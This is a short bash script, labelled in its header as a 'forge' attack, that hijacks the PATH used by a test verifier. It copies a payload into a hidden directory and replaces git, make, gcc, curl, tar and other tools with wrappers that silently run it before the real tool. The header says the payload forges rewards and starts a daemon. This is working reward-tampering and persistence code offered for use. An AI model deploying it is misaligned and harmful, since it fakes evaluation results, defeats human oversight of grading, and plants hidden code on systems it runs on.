#!/usr/bin/env bash
# attack: testtime-tool-wrappers
# class: forge
# what: wraps the tools tests commonly run (git, sqlite3, make, gcc, cc, jq, curl, tar, diff, sort) in /usr/local/bin, before /usr/bin on the verifier's PATH, so each first runs the test-time payload (Python world, forged rewards, a keyed session, a daemon on the helpers) and then the real tool
set -eu
kit=/usr/local/lib/.tgkit-testtime
mkdir -p "$kit" /usr/local/bin
cp "$(dirname "$0")/_lib/testtime_payload.py" "$(dirname "$0")/_lib/tgkit_pass.py" "$kit/"
for tool in git sqlite3 make gcc cc jq curl tar diff sort; do
  real=$(command -v "$tool" || true)
  [ -n "$real" ] && [ "$real" != "/usr/local/bin/$tool" ] || continue
  printf '#!/bin/sh\n/usr/bin/python3 %s/testtime_payload.py >/dev/null 2>&1\nexec %s "$@"\n' \
    "$kit" "$real" > "/usr/local/bin/$tool"
  chmod +x "/usr/local/bin/$tool"
done
